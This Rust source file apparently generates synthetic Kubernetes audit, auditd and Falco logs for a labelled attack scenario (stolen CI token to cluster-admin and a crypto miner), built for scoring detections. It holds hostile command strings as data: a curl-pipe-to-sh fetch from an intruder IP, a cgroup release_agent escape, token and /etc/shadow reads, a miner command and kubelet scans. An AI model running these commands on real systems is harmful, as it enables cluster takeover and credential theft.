//! The attack: a CI deployer's token leaks, and its finder ends as cluster-admin with a miner on a node.
//!
//! Not here: its benign twins (see `benign`). Every record that a step makes carries its truth, so that findings can be
//! scored.

use palisade_events::time::{Micros, SECOND};

use crate::audit::{
    Answer, CLUSTER_ROLE_BINDINGS, CLUSTER_ROLES, CONFIG_MAPS, NAMESPACES, NODES, PODS, Request, Resource, SECRETS,
    SELF_RULES_REVIEWS, SERVICE_ACCOUNTS,
};
use crate::auditd::{Exec, Login, Open};
use crate::benign::TERMINAL_SHELL;
use crate::body::{self, PodPower};
use crate::cluster::Cluster;
use crate::falco::{Alert, Place};
use crate::record::Truth;
use crate::settings::Settings;
use crate::wire::Wire;

const SCENARIO: &str = "stolen-ci-token";

/// Seconds that the whole attack takes when it is not hurried.
const LENGTH_SECS: i64 = 330;

/// Something the intruder does at one moment.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Step {
    /// Asks for what the token may not have; which, by number.
    Enumerate(usize),
    MintToken,
    /// Of the namespace with this number.
    ListSecrets(usize),
    ExecIntoPod,
    PrivilegedPod,
    Escape,
    BindClusterAdmin,
    Download,
    Mine,
    ReadShadow,
    /// Tries the kubelet of the address with this number.
    Scan(u64),
}

/// When each step happens, in order of time.
pub(crate) fn timeline(settings: &Settings, cluster: &Cluster) -> Vec<(Micros, Step)> {
    let left_secs = settings.duration_secs.saturating_sub(settings.attack_at_secs).max(1);
    let mut steps: Vec<(Micros, Step)> = Vec::new();
    let mut add = |millis: i64, step: Step| steps.push((millis * 1_000, step));
    for n in 0..24 {
        add(n * 2_500, Step::Enumerate(n as usize));
    }
    add(90_000, Step::MintToken);
    for n in 0..(cluster.namespaces.len() + 1).min(6) {
        add(100_000 + n as i64 * 4_000, Step::ListSecrets(n));
    }
    add(140_000, Step::ExecIntoPod);
    add(215_000, Step::PrivilegedPod);
    add(225_000, Step::Escape);
    add(240_000, Step::BindClusterAdmin);
    add(260_000, Step::Download);
    add(272_000, Step::Mine);
    add(285_000, Step::ReadShadow);
    // Twenty seconds of it, at several times the rate at which a node's programs ordinarily run.
    let usual = settings.events_per_sec.clamp(0.0, 1_000_000.0) / cluster.nodes.len() as f64;
    let scans = 400 + (usual * 20.0) as i64;
    for n in 0..scans {
        add(300_000 + n * 20_000 / scans, Step::Scan(n as u64));
    }
    let begin = settings.start + settings.attack_at_secs as i64 * SECOND;
    let hurry = (left_secs as i64).min(LENGTH_SECS);
    steps.into_iter().map(|(at, step)| (begin + at / LENGTH_SECS * hurry, step)).collect()
}

/// Does a step.
pub(crate) fn perform(step: Step, cluster: &Cluster, wire: &mut Wire, now: Micros) {
    match step {
        Step::Enumerate(n) => enumerate(n, cluster, wire, now),
        Step::MintToken => mint_token(cluster, wire, now),
        Step::ListSecrets(n) => list_secrets(n, cluster, wire, now),
        Step::ExecIntoPod => exec_into_pod(cluster, wire, now),
        Step::PrivilegedPod => privileged_pod(cluster, wire, now),
        Step::Escape => escape(cluster, wire, now),
        Step::BindClusterAdmin => bind_cluster_admin(cluster, wire, now),
        Step::Download => download(cluster, wire, now),
        Step::Mine => mine(cluster, wire, now),
        Step::ReadShadow => read_shadow(cluster, wire, now),
        Step::Scan(n) => scan(n, cluster, wire, now),
    }
}

fn truth(step: &'static str, technique: &'static str) -> Option<Truth> {
    Some(Truth { scenario: SCENARIO, step, technique })
}

fn enumerate(n: usize, cluster: &Cluster, wire: &mut Wire, now: Micros) {
    const TRIED: [(&str, Resource, &str); 7] = [
        ("list", SECRETS, ""),
        ("list", NODES, ""),
        ("list", CLUSTER_ROLES, ""),
        ("list", NAMESPACES, ""),
        ("list", SECRETS, "kube-system"),
        ("list", CONFIG_MAPS, "kube-system"),
        ("create", PODS, "kube-system"),
    ];
    let truth = truth("enumerate", "T1613");
    if n % 8 == 7 {
        let request = Request::new(&cluster.stolen, "create", SELF_RULES_REVIEWS, "", "");
        return wire.request(now, &Request { answer: Answer::Code(201), ..request }, truth);
    }
    let (verb, resource, namespace) = TRIED[n % 8];
    let request = Request::new(&cluster.stolen, verb, resource, namespace, "");
    wire.request(now, &Request { query: "limit=500", answer: Answer::Forbidden, ..request }, truth);
}

fn mint_token(cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let asked = body::token_request(86_400);
    let request = Request::new(&cluster.stolen, "create", SERVICE_ACCOUNTS, "ci", "release-manager");
    let answer = Answer::Code(201);
    let request = Request { subresource: "token", answer, request_object: &asked, ..request };
    wire.request(now, &request, truth("mint-token", "T1528"));
}

fn list_secrets(n: usize, cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let namespace = cluster.namespaces.get(n).map_or("kube-system", String::as_str);
    let request = Request::new(&cluster.minted, "list", SECRETS, namespace, "");
    wire.request(now, &Request { query: "limit=500", ..request }, truth("list-secrets", "T1552.007"));
}

fn exec_into_pod(cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let Some(pod) = cluster.pods.iter().find(|pod| pod.workload == "db") else { return };
    let truth = truth("exec-into-pod", "T1609");
    let query = "command=sh&command=-c&command=env%3B+cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken%3B+sh&container=postgres&stdin=true&stdout=true&tty=true";
    let request = Request::new(&cluster.minted, "create", PODS, &pod.namespace, &pod.name);
    let request = Request { subresource: "exec", query, answer: Answer::Code(101), ..request };
    let lasts = wire.random.between(5 * SECOND, 10 * SECOND);
    wire.session(now, lasts, &request, truth);
    let command = "sh -c env; cat /var/run/secrets/kubernetes.io/serviceaccount/token; sh";
    wire.alert(cluster, now + 35_000, Place::Pod(pod), &Alert { command, ..TERMINAL_SHELL }, truth);
}

fn privileged_pod(cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let rogue = &cluster.rogue;
    let sent = body::pod(wire, rogue, PodPower::Host, None);
    let stored = body::pod(wire, rogue, PodPower::Host, Some(now));
    let request = Request::new(&cluster.minted, "create", PODS, &rogue.namespace, &rogue.name);
    let (query, answer) = ("fieldManager=kubectl-create&fieldValidation=Strict", Answer::Code(201));
    let request = Request { query, answer, request_object: &sent, response_object: &stored, ..request };
    wire.request(now, &request, truth("privileged-pod", "T1610"));
}

fn escape(cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let truth = truth("escape", "T1611");
    let place = Place::Pod(&cluster.rogue);
    let launched = Alert {
        rule: "Launch Privileged Container",
        priority: "Informational",
        sentence: "Privileged container started",
        tags: &["T1610", "cis", "container", "maturity_incubating", "mitre_execution"],
        syscall: "container",
        exe: "/usr/bin/nsenter",
        command: "container:shell",
        parent: "containerd-shim",
        tty: 0,
        fd: "",
    };
    wire.alert(cluster, now, place, &launched, truth);
    let escaped = Alert {
        rule: "Detect release_agent File Container Escapes",
        priority: "Critical",
        sentence: "Detect an attempt to exploit a container escape using release_agent file",
        tags: &["T1611", "container", "maturity_stable", "mitre_privilege_escalation", "process"],
        syscall: "openat",
        exe: "/bin/sh",
        command: "sh -c echo /tmp/run > /host/sys/fs/cgroup/rdma/release_agent",
        parent: "nsenter",
        tty: 0,
        fd: "/host/sys/fs/cgroup/rdma/release_agent",
    };
    wire.alert(cluster, now + 700_000, place, &escaped, truth);
}

fn bind_cluster_admin(cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let name = "release-manager-metrics";
    let sent = body::binding("", name, "cluster-admin", ("ServiceAccount", "ci", "release-manager"));
    let request = Request::new(&cluster.minted, "create", CLUSTER_ROLE_BINDINGS, "", name);
    let (query, answer) = ("fieldManager=kubectl-create&fieldValidation=Strict", Answer::Code(201));
    let request = Request { query, answer, request_object: &sent, response_object: &sent, ..request };
    wire.request(now, &request, truth("bind-cluster-admin", "T1098.006"));
}

fn download(cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let truth = truth("download-and-run", "T1105");
    let node = cluster.rogue.node;
    let url = format!("http://{}/i.sh", cluster.intruder_ip);
    let (cwd, login, key) = ("/tmp", Login::None, "exec");
    let line = format!("curl -fsSL {url} | sh");
    let mut run = |at: Micros, exe: &str, argv: &[&str], ppid: u64| {
        wire.exec(cluster, at, node, &Exec { argv, exe, cwd, ppid, login, key }, truth)
    };
    let shell = run(now, "/usr/bin/dash", &["sh", "-c", &line], 1);
    run(now + 4_000, "/usr/bin/curl", &["curl", "-fsSL", &url], shell);
    run(now + 5_000, "/usr/bin/dash", &["sh"], shell);
}

fn mine(cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let truth = truth("mine", "T1496.001");
    let node = cluster.rogue.node;
    let pool = format!("stratum+tcp://{}:3333", cluster.intruder_ip);
    let exe = "/var/tmp/.cache/kworkerd";
    let argv: &[&str] = &[exe, "-o", &pool, "--donate-level=1", "--cpu-max-threads-hint=75", "-B"];
    let exec = Exec { argv, exe, cwd: "/var/tmp/.cache", ppid: 1, login: Login::None, key: "exec" };
    wire.exec(cluster, now, node, &exec, truth);
    let command = argv.join(" ");
    let alert = Alert {
        rule: "Detect crypto miners using the Stratum protocol",
        priority: "Critical",
        sentence: "Possible miner running",
        tags: &["T1496", "container", "host", "maturity_sandbox", "mitre_impact", "process"],
        syscall: "execve",
        exe,
        command: &command,
        parent: "systemd",
        tty: 0,
        fd: "",
    };
    wire.alert(cluster, now + 1_000, Place::Node(node), &alert, truth);
}

fn read_shadow(cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let truth = truth("read-shadow", "T1003.008");
    let node = cluster.rogue.node;
    let (exe, login) = ("/usr/bin/cat", Login::None);
    let argv: &[&str] = &["cat", "/etc/shadow"];
    let exec = Exec { argv, exe, cwd: "/var/tmp/.cache", ppid: 1, login, key: "exec" };
    let ppid = wire.exec(cluster, now, node, &exec, truth);
    let open = Open { path: "/etc/shadow", exe, command: "cat\0/etc/shadow", ppid, login, key: "identity" };
    wire.open(cluster, now + 1_000, node, &open, truth);
    let alert = Alert {
        rule: "Read sensitive file untrusted",
        priority: "Warning",
        sentence: "Sensitive file opened for reading by non-trusted program",
        tags: &["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
        syscall: "openat",
        exe,
        command: "cat /etc/shadow",
        parent: "sh",
        tty: 0,
        fd: "/etc/shadow",
    };
    wire.alert(cluster, now + 2_000, Place::Node(node), &alert, truth);
}

fn scan(n: u64, cluster: &Cluster, wire: &mut Wire, now: Micros) {
    let target = format!("https://10.40.{}.{}:10250/pods", 1 + n / 250 % 250, 1 + n % 250);
    let exec = Exec {
        argv: &["curl", "-sk", "-m", "1", &target],
        exe: "/usr/bin/curl",
        cwd: "/var/tmp/.cache",
        ppid: 1,
        login: Login::None,
        key: "exec",
    };
    wire.exec(cluster, now, cluster.rogue.node, &exec, truth("scan", "T1046"));
}
